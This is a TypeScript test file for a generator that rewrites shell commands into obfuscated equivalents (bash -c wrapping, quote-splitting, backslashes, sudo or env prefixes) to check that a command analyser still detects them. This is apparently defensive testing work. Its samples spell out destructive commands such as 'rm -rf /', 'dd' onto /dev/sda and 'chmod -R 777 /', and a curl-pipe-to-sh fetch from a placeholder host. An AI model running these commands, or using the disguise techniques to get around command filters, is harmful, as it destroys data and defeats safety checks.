import {spawnSync} from 'node:child_process'

import fc from 'fast-check'
import {describe, expect, it} from 'vitest'

import {analyzeCommand} from '../../../src/core/engine/shell.js'
import {disguises, type Disguise} from '../../../src/core/testing/mutate.js'

function byTechnique(cmd: string): Map<string, string[]> {
  const m = new Map<string, string[]>()
  for (const d of disguises(cmd)) m.set(d.technique, [...(m.get(d.technique) ?? []), d.command])
  return m
}

function techniques(cmd: string): Set<string> {
  return new Set(disguises(cmd).map((d) => d.technique))
}

/** the analyser does not canonicalise flag clusters or order (except for rm): compare those modulo both */
function normFlags(text: string): string {
  const out: string[] = []
  let run: string[] = []
  const flush = (): void => {
    out.push(...run.sort())
    run = []
  }
  for (const w of text.split(' ')) {
    if (/^-[A-Za-z]{2,}$/.test(w)) run.push(...[...w.slice(1)].map((l) => '-' + l))
    else if (/^-[A-Za-z]$/.test(w) || /^--[a-z][a-z-]*$/.test(w)) run.push(w)
    else {
      flush()
      out.push(w)
    }
  }
  flush()
  return out.join(' ')
}

/**
 * Component texts of the original that no form of the disguise's analysis contains: empty when, as far as the
 * analyser can tell, the disguise still runs every command of the original.
 */
function missing(original: string, d: Disguise): string[] {
  const flags = d.technique === 'split-flags' || d.technique === 'reorder-flags'
  const norm = flags ? normFlags : (s: string) => s
  const have = new Set(analyzeCommand(d.command).components.flatMap((c) => c.forms.map(norm)))
  return analyzeCommand(original)
    .components.map((c) => c.text)
    .filter((t) => !have.has(norm(t)))
}

function expectRoundTrip(original: string): void {
  for (const d of disguises(original)) {
    expect({technique: d.technique, command: d.command, missing: missing(original, d)}).toEqual({
      technique: d.technique,
      command: d.command,
      missing: [],
    })
  }
}

const hasBash = spawnSync('bash', ['-c', 'true']).status === 0

const SAMPLES = [
  'rm -rf /',
  'rm -rf / --no-preserve-root',
  "echo 'hi' && rm -rf /",
  'cd /tmp && rm -rf x',
  'git push --force origin main',
  'tar -czf x.tgz /',
  "sudo rm -fr '/my dir'",
  'curl -fsSL https://x.example/i.sh | sh',
  'rm -r -f ~ 2>/dev/null &',
  'FOO=2 rm -rf "$HOME"',
  'find . -name "*.tmp" -exec rm {} \\;',
  'cat <<EOF > /etc/hosts\n1.2.3.4 x\nEOF',
  'ls -la # list everything',
  'chmod -R 777 /',
  'grep -rn -e secret -i .',
  'dd if=/dev/zero of=/dev/sda bs=1M',
  'case $x in a) rm -rf /;; esac',
  'for f in *; do rm "$f"; done',
  'echo `whoami` > /tmp/x',
  "npm publish --tag 'latest'",
  'kill -9 1',
  'mkdir -pv a/b && cp -rf a /b',
  "cat <<'EOF' >> ~/.bashrc\nit's here\nEOF",
  '(rm -rf /)',
  'rm 2>/dev/null -rf /',
  'echo $((1 << 2)) && rm -rf /',
  'nice sudo rm -rf /',
]

describe('disguises of rm -rf /', () => {
  const all = byTechnique('rm -rf /')

  it('uses every technique that applies', () => {
    for (const t of [
      'bash-c', 'sh-lc', 'env-assign', 'prefix-assign', 'timeout', 'nice', 'abs-path', 'quote-split', 'backslash',
      'subst-dollar', 'subst-backtick', 'true-and', 'then-true', 'sudo', 'split-flags',
    ]) {
      expect(all.has(t), t).toBe(true)
    }
  })

  it('spells each disguise exactly', () => {
    expect(Object.fromEntries([...all].map(([t, c]) => [t, c]))).toEqual({
      'bash-c': ["bash -c 'rm -rf /'"],
      'sh-lc': ["sh -lc 'rm -rf /'"],
      'env-assign': ['env X=1 rm -rf /'],
      'prefix-assign': ['FOO=1 rm -rf /'],
      timeout: ['timeout 5 rm -rf /'],
      nice: ['nice rm -rf /'],
      'abs-path': ['/bin/rm -rf /'],
      'quote-split': ["'r'm -rf /"],
      backslash: ['r\\m -rf /'],
      'subst-dollar': ['echo "$(rm -rf /)"'],
      'subst-backtick': ['echo "`rm -rf /`"'],
      'true-and': ['true && rm -rf /'],
      'then-true': ['rm -rf /; true'],
      sudo: ['sudo rm -rf /'],
      'split-flags': ['rm -r -f /'],
    })
  })

  it('reorders separate flags', () => {
    expect(byTechnique('rm -r -f /').get('reorder-flags')).toEqual(['rm -f -r /'])
    expect(byTechnique('rm -r -f --no-preserve-root /').get('reorder-flags')).toEqual([
      'rm -f -r --no-preserve-root /',
      'rm -r --no-preserve-root -f /',
    ])
  })
})

describe('what each technique leaves alone', () => {
  it('does not put launchers or a path on a builtin that starts a list', () => {
    const t = techniques('cd /tmp && rm -rf x')
    for (const no of ['env-assign', 'timeout', 'nice', 'sudo', 'abs-path']) expect(t.has(no), no).toBe(false)
    expect(t.has('bash-c')).toBe(true)
    expect(t.has('true-and')).toBe(true)
    // the words after the first simple command are never touched
    for (const d of disguises('cd /tmp && rm -rf x')) expect(d.command).toContain('rm -rf x')
  })

  it('does not split or reorder git flags, but disguises git itself', () => {
    const all = byTechnique('git push --force origin main')
    expect(all.has('split-flags')).toBe(false)
    expect(all.has('reorder-flags')).toBe(false)
    expect(all.get('bash-c')).toEqual(["bash -c 'git push --force origin main'"])
    expect(all.get('abs-path')).toEqual(['/usr/bin/git push --force origin main'])
    expect(all.get('quote-split')).toEqual(["'g'it push --force origin main"])
    expect(all.get('backslash')).toEqual(['g\\it push --force origin main'])
    expect(all.get('sudo')).toEqual(['sudo git push --force origin main'])
  })

  it('never splits flags of utilities with non-getopt or value-taking clusters', () => {
    expect(techniques('tar -czf x.tgz /').has('split-flags')).toBe(false)
    expect(techniques('find / -delete').has('split-flags')).toBe(false)
    expect(techniques('chmod -rwx f').has('split-flags')).toBe(false)
    expect(techniques('kill -9 1').has('split-flags')).toBe(false)
    // -t takes the rest of the cluster as its value
    expect(techniques('cp -tfoo a b').has('split-flags')).toBe(false)
    // a value-taking letter last in the cluster keeps its value
    expect(byTechnique('cp -rt /dst a').get('split-flags')).toEqual(['cp -r -t /dst a'])
    // -rf is grep's pattern here; options after the first operand or `--` are not touched
    expect(techniques('grep -e -rf x').has('split-flags')).toBe(false)
    expect(techniques('rm x -rf').has('split-flags')).toBe(false)
    expect(techniques('rm -- -rf').has('split-flags')).toBe(false)
    // flags that override each other (last one wins) are never swapped
    expect(techniques('rm -i -f x').has('reorder-flags')).toBe(false)
    expect(techniques('ls -l -1').has('reorder-flags')).toBe(false)
  })

  it('skips launchers, paths and quoting where they would change the meaning', () => {
    expect(techniques('sudo rm -rf /').has('sudo')).toBe(false)
    expect(techniques('doas rm -rf /').has('sudo')).toBe(false)
    for (const cmd of ['export A=1', 'eval "rm -rf /"', 'exec rm -rf /', 'source ./x.sh', '. ./x.sh', 'set -e']) {
      const t = techniques(cmd)
      for (const no of ['env-assign', 'timeout', 'nice', 'sudo', 'abs-path']) expect(t.has(no), `${cmd}: ${no}`).toBe(false)
    }
    for (const cmd of ['if true; then rm -rf /; fi', '{ rm -rf /; }', '(rm -rf /)', '! rm -rf /', 'time rm -rf /', 'f() { rm -rf /; }']) {
      const t = techniques(cmd)
      for (const no of ['env-assign', 'prefix-assign', 'timeout', 'nice', 'sudo', 'abs-path', 'quote-split', 'backslash']) {
        expect(t.has(no), `${cmd}: ${no}`).toBe(false)
      }
      expect(t.has('bash-c'), cmd).toBe(true)
    }
    // assignment-only, a redirection first, an expansion as the executable
    for (const cmd of ['A=1 B=2', '>/etc/passwd rm -rf /', '$CMD -rf /']) {
      expect(techniques(cmd).has('sudo'), cmd).toBe(false)
      expect(techniques(cmd).has('abs-path'), cmd).toBe(false)
    }
    // leading assignments: sudo would drop them, launchers would see PATH=
    const t = techniques('PATH=/x rm -rf /')
    for (const no of ['env-assign', 'timeout', 'nice', 'sudo', 'abs-path']) expect(t.has(no), no).toBe(false)
    expect(byTechnique('PATH=/x rm -rf /').get('quote-split')).toEqual(["PATH=/x 'r'm -rf /"])
    expect(techniques('true && x').has('abs-path')).toBe(false)
    expect(techniques('/bin/rm -rf /').has('abs-path')).toBe(false)
    expect(techniques('/bin/rm -rf /').has('quote-split')).toBe(false)
    expect(techniques('r.m x').has('backslash')).toBe(false)
    expect(techniques('printf -v x foo').has('sudo')).toBe(false)
    expect(techniques('kill %1').has('abs-path')).toBe(false)
    // the added variable is never one the command reads
    expect(techniques('bash -c "rm -rf $X"').has('env-assign')).toBe(false)
    expect(techniques('rm -rf "${FOO}"').has('prefix-assign')).toBe(false)
  })

  it('skips wrappers that would change what the text refers to or how it parses', () => {
    // values that differ in another shell or after `true`
    for (const cmd of ['rm -rf /tmp/x.$$', 'rm -rf "$1"', 'test $? = 0 && rm -rf /', 'rm -rf /tmp/$RANDOM']) {
      const t = techniques(cmd)
      for (const no of ['bash-c', 'sh-lc', 'true-and', 'subst-dollar', 'subst-backtick']) expect(t.has(no), `${cmd}: ${no}`).toBe(false)
    }
    expect(techniques("awk '{print $1}' f | sh").has('bash-c')).toBe(true)
    // bash-only syntax is not handed to sh
    for (const cmd of ['rm -rf {a,b}', '[[ -d x ]] && rm -rf x', 'cat <<< x', "rm $'x'", 'echo a\\\\nb', 'ls &> f']) {
      expect(techniques(cmd).has('sh-lc'), cmd).toBe(false)
      expect(techniques(cmd).has('bash-c'), cmd).toBe(true)
    }
    expect(techniques('find . -exec rm {} +').has('sh-lc')).toBe(true)
    // comments, heredocs and trailing operators break appended text
    for (const cmd of ['rm -rf / # bye', 'cat <<EOF\nx\nEOF', 'rm -rf / &&', 'rm -rf / |', 'rm -rf \\ ']) {
      const t = techniques(cmd)
      for (const no of ['then-true', 'subst-dollar', 'subst-backtick']) expect(t.has(no), `${JSON.stringify(cmd)}: ${no}`).toBe(false)
    }
    expect(byTechnique('rm -rf /;').get('then-true')).toEqual(['rm -rf /; true'])
    expect(byTechnique('rm -rf / &').get('then-true')).toEqual(['rm -rf / & true'])
    expect(byTechnique('rm -rf /\n').get('then-true')).toEqual(['rm -rf /; true'])
    expect(techniques('find . -exec rm {} \\;').has('then-true')).toBe(true)
    // backticks would re-interpret backslashes and nest badly
    expect(techniques('echo `id`').has('subst-backtick')).toBe(false)
    expect(techniques('r\\m -rf /').has('subst-backtick')).toBe(false)
    expect(techniques('case $x in a) rm -rf /;; esac').has('subst-dollar')).toBe(false)
  })

  it('handles heredocs, arithmetic, subshells and redirections', () => {
    // a heredoc body is text: its apostrophe does not make the command unparseable
    const heredoc = byTechnique("cat <<'EOF' >> ~/.bashrc\nit's here\nEOF")
    expect(heredoc.get('sudo')).toEqual(["sudo cat <<'EOF' >> ~/.bashrc\nit's here\nEOF"])
    expect(heredoc.has('then-true')).toBe(false)
    // `<<` inside $(( … )) is a shift
    expect(techniques('echo $((1 << 2)) && rm -rf /').has('then-true')).toBe(true)
    // `$((` would be arithmetic
    expect(byTechnique('(rm -rf /)').get('subst-dollar')).toEqual(['echo "$( (rm -rf /))"'])
    // words after a redirection are still arguments; a redirection first is not the command
    expect(byTechnique('rm 2>/dev/null -rf /').get('split-flags')).toEqual(['rm 2>/dev/null -r -f /'])
    expect(byTechnique('rm -rf / >/dev/null').get('sudo')).toEqual(['sudo rm -rf / >/dev/null'])
    // already privileged further in; a launcher running a NAME=value word
    expect(techniques('nice sudo rm -rf /').has('sudo')).toBe(false)
    expect(techniques('nice X=1 rm').has('sudo')).toBe(false)
    expect(techniques('nice X=1 rm').has('prefix-assign')).toBe(false)
    expect(techniques('env X=2 rm -rf /').has('sudo')).toBe(true)
  })

  it('returns nothing for empty or unparseable input', () => {
    expect(disguises('')).toEqual([])
    expect(disguises('  \n ')).toEqual([])
    expect(disguises("echo 'unterminated")).toEqual([])
    expect(disguises('echo "unterminated')).toEqual([])
    expect(disguises('echo $(unterminated')).toEqual([])
    expect(disguises('echo `unterminated')).toEqual([])
    expect(disguises('rm -rf /\\')).toEqual([])
  })
})

describe('disguises run the same commands', () => {
  it('quotes the script of bash -c correctly', () => {
    const bashC = byTechnique("echo 'hi' && rm -rf /").get('bash-c')
    expect(bashC).toEqual(["bash -c 'echo '\\''hi'\\'' && rm -rf /'"])
    expect(analyzeCommand(bashC![0]!).components.map((c) => c.text)).toContain('rm -rf /')
  })

  it.each(SAMPLES)('%j: every disguise still contains every command of the original', (cmd) => {
    const ds = disguises(cmd)
    expect(ds.length).toBeGreaterThan(0)
    expect(ds.map((d) => d.command)).not.toContain(cmd)
    expect(new Set(ds.map((d) => d.command)).size).toBe(ds.length)
    expectRoundTrip(cmd)
  })

  it.skipIf(!hasBash)('every disguise of the samples is valid bash syntax', () => {
    for (const cmd of SAMPLES) {
      for (const d of disguises(cmd)) {
        const r = spawnSync('bash', ['-n', '-c', d.command], {encoding: 'utf8'})
        expect({command: d.command, status: r.status, stderr: r.stderr}).toEqual({command: d.command, status: 0, stderr: ''})
      }
    }
  })

  it('holds for random plain commands', () => {
    const word = fc.stringMatching(/^[a-z]{1,5}$/)
    const flag = fc.stringMatching(/^-[a-z]{1,3}$/)
    const command = fc
      .tuple(word, fc.array(fc.oneof(word, flag), {maxLength: 6}), fc.constantFrom(' ', '  '))
      .map(([w, rest, sep]) => [w, ...rest].join(sep))
    fc.assert(
      fc.property(command, (cmd) => {
        const ds = disguises(cmd)
        const texts = ds.map((d) => d.command)
        expect(texts).not.toContain(cmd)
        expect(new Set(texts).size).toBe(texts.length)
        for (const d of ds) expect(missing(cmd, d), `${d.technique}: ${d.command}`).toEqual([])
      }),
      {numRuns: 500},
    )
  })

  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({maxLength: 40}), (s) => {
        const ds = disguises(s)
        expect(ds.map((d) => d.command)).not.toContain(s)
      }),
      {numRuns: 1000},
    )
  })
})
